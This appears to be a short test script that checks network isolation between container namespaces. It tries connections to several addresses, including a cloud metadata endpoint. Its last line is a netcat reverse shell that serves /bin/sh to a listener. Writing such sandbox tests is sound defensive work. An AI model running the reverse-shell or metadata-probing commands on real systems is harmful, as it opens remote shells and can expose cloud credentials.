# Runs inside the "net" container, attached to the test's network namespace A; the
# listeners live in namespace B (10.231.0.2, 169.254.169.254 and 198.18.0.2 are B's).
vigil-helper connect 10.231.0.2 6443
vigil-helper connect 169.254.169.254 80
vigil-helper connect 198.18.0.2 3333
/bin/nc 10.231.0.2 4444 -e /bin/sh
